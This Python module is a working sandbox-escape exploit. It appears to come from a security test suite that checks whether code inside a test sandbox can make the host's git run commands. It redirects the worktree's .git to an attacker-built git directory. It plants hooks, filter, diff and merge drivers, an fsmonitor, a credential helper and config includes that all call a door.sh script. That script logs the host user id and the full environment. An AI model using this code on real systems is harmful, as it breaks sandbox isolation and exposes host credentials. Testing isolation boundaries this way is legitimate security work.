"""Row 1 of issue 34: the worktree's git directory made the attacker's, so that the host's git,
working in the tree after the tests ran (applying the fix, listing files), runs its commands.

The attacker's git directory sets every setting that runs a command (filter, diff and merge
drivers, fsmonitor, hooks, pager, editors, helpers) and `.gitattributes` sends every file
through its filter. The command (`door.sh`) appends its `id -u` and environment to
`targets["marker"]`: a host path no sandbox shows, so only a host process can write it."""

import contextlib
import os
import shutil

from door_find import JOB, host_tree, on_host, probe, tree, tree_in_job, walk

ATTRIBUTES = "* filter=door diff=door merge=door\n"
HOOKS = (
    "applypatch-msg",
    "pre-applypatch",
    "post-applypatch",
    "pre-commit",
    "pre-merge-commit",
    "prepare-commit-msg",
    "commit-msg",
    "post-commit",
    "pre-rebase",
    "post-checkout",
    "post-merge",
    "pre-push",
    "post-rewrite",
    "post-index-change",
    "reference-transaction",
    "pre-auto-gc",
    "fsmonitor-watchman",
    "push-to-checkout",
)
SCRIPT = """#!/bin/sh
{{ echo "ran: $1"; id -u; env; }} >> '{marker}' 2>/dev/null
case "$1" in clean|smudge) exec cat ;; textconv) exec cat "$2" ;; esac
exit 0
"""
CONFIG = """[core]
\trepositoryformatversion = 0
\tbare = false
\tfsmonitor = {run} fsmonitor
\thooksPath = {host}/hooks
\tattributesFile = {host}/info/attributes
\tpager = {run} pager
\teditor = {run} editor
\taskPass = {run} askpass
\tsshCommand = {run} ssh
[filter "door"]
\tclean = {run} clean
\tsmudge = {run} smudge
[diff "door"]
\ttextconv = {run} textconv
\tcommand = {run} diff-driver
[diff]
\texternal = {run} diff-external
[merge "door"]
\tdriver = {run} merge-driver
[sequence]
\teditor = {run} sequence-editor
[gpg]
\tprogram = {run} gpg
[credential]
\thelper = !{run} credential
[uploadpack]
\tpackObjectsHook = {run} pack-objects
"""


def _write(path, text, mode=0o644):
    with open(path, "w") as fh:
        fh.write(text)
    os.chmod(path, mode)


def _real_gitdir():
    """The git directory the worktree's `.git` file names (None: it names none)."""
    try:
        with open(os.path.join(tree(), ".git")) as fh:
            return fh.read().split("gitdir:", 1)[1].strip()
    except (OSError, IndexError):
        return None


def make_gitdir(inside, host, targets):
    """A git directory at `inside` (the sandbox's path; `host` is the host's path of it) whose
    every command is the attacker's, holding the worktree's own HEAD, index and objects (so
    git works as before)."""
    for sub in ("objects/info", "refs/heads", "hooks", "info"):
        os.makedirs(os.path.join(inside, sub), exist_ok=True)
    real = _real_gitdir()
    head = "ref: refs/heads/main\n"
    if real:
        for name in ("HEAD", "index"):
            with contextlib.suppress(OSError):
                shutil.copyfile(os.path.join(real, name), os.path.join(inside, name))
        common = os.path.normpath(os.path.join(real, "..", ".."))
        _write(os.path.join(inside, "objects/info/alternates"), common + "/objects\n")
    if not os.path.exists(os.path.join(inside, "HEAD")):
        _write(os.path.join(inside, "HEAD"), head)
    run = f"sh {host}/door.sh"
    _write(os.path.join(inside, "door.sh"), SCRIPT.format(marker=targets["marker"]), 0o755)
    _write(os.path.join(inside, "config"), CONFIG.format(run=run, host=host))
    _write(os.path.join(inside, "info/attributes"), ATTRIBUTES)
    for hook in HOOKS:
        _write(os.path.join(inside, "hooks", hook), f"#!/bin/sh\nexec {run} {hook}\n", 0o755)


def _attributes():
    try:
        _write(os.path.join(tree(), ".gitattributes"), ATTRIBUTES)
        probe(".gitattributes", "written")
    except OSError as exc:
        probe(".gitattributes", f"blocked: {exc.strerror}")


def _dot_gits():
    """Every `.git` in the job's scratch: the worktree's own, seen where it is writable."""
    return [os.path.join(d, ".git") for d in walk(JOB, 3) if os.path.lexists(d + "/.git")]


def through_job_scratch(targets):
    """The worktree's `.git` file, rewritten where the job's scratch shows it, names a git
    directory of the attacker's in that scratch (by its host path)."""
    inside = JOB + "/.door-git"
    host = on_host(inside)
    probe("host_job", host or "unknown")
    if host:
        make_gitdir(inside, host, targets)
        for dot_git in _dot_gits():
            try:
                if not os.path.isfile(dot_git):
                    raise IsADirectoryError(21, "a directory")
                _write(dot_git, f"gitdir: {host}\n")
                probe(f"rewrite {dot_git}", "written")
            except OSError as exc:
                probe(f"rewrite {dot_git}", f"blocked: {exc.strerror}")
    _attributes()


def dotgit_directory(targets):
    """Each `.git` in the job's scratch replaced by (or, a directory already, made into) a
    git directory of the attacker's; and one in each folder above the worktree there, for a
    git that looks upwards."""
    place, above = tree_in_job(), []
    while place and place != JOB:
        place = os.path.dirname(place)
        above.append(place + "/.git")
    for dot_git in _dot_gits() + above:
        host = on_host(dot_git)
        try:
            if os.path.isfile(dot_git) or os.path.islink(dot_git):
                os.remove(dot_git)
            make_gitdir(dot_git, host or dot_git, targets)
            probe(f"gitdir {dot_git}", "made" if host else "made (host path unknown)")
        except OSError as exc:
            probe(f"gitdir {dot_git}", f"blocked: {exc.strerror}")
    _attributes()


def through_testbed(targets):
    """The worktree's `.git` where the tests see it: rewritten in place or replaced if a file,
    made the attacker's if a directory; and the git directories it names, written into."""
    dot_git = os.path.join(tree(), ".git")
    inside = JOB + "/.door-git-testbed"
    host = on_host(inside) or inside
    attempts = []
    if os.path.isdir(dot_git):
        host_dot_git = (host_tree() or tree()) + "/.git"
        attempts.append(("make .git", lambda: make_gitdir(dot_git, host_dot_git, targets)))
    else:
        make_gitdir(inside, host, targets)
        attempts.append(("rewrite .git", lambda: _write(dot_git, f"gitdir: {host}\n")))
        attempts.append(("replace .git", lambda: _replace(dot_git, f"gitdir: {host}\n")))
    real = _real_gitdir()
    if real:
        include = f"[include]\n\tpath = {host}/config\n"
        common = os.path.normpath(os.path.join(real, "..", ".."))
        attempts.append(("write gitdir config", lambda: _write(real + "/config.worktree", include)))
        attempts.append(("write common config", lambda: _append(common + "/config", include)))
        hook = f"#!/bin/sh\nexec sh {host}/door.sh hook\n"
        attempts.append(
            ("write common hook", lambda: _write(common + "/hooks/post-checkout", hook))
        )
    for name, attempt in attempts:
        try:
            attempt()
            probe(name, "written")
        except OSError as exc:
            probe(name, f"blocked: {exc.strerror}")
    _attributes()


def _replace(path, text):
    _write(path + "-door", text)
    os.rename(path + "-door", path)


def _append(path, text):
    with open(path, "a") as fh:
        fh.write(text)
